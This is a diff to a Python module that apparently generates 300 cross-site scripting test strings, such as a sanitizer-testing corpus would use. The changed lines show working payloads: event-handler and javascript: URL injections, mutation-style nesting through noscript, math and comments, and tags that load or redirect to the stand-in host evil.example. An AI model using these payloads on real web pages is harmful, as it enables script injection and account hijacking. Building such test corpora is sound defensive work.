@@ -1,4 +1,4 @@
-"""300 texts that would run a script, or ask for something elsewhere, on a page that believed them."""
+"""300 texts that would run a script, or ask elsewhere for something, on a page that took them."""
 
 from __future__ import annotations
 
@@ -32,7 +32,7 @@ ELEMENTS = (
     f"<input autofocus onfocus={RUN}>",
     f"<select autofocus onfocus={RUN}>",
     f"<marquee onstart={RUN}>x</marquee>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></math>",
     "<link rel=stylesheet href=http://evil.example/x.css>",
     "<style>body{background:url(http://evil.example/b.png)}</style>",
     "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
@@ -41,7 +41,7 @@ ELEMENTS = (
     f"<object data='javascript:{RUN}'></object>",
     f"<embed src='javascript:{RUN}'>",
     f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
-    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
     f"<textarea></textarea><img src=x onerror={RUN}>",
     f"<!--><img src=x onerror={RUN}>-->",
     f"&lt;img src=x onerror={RUN}&gt;",
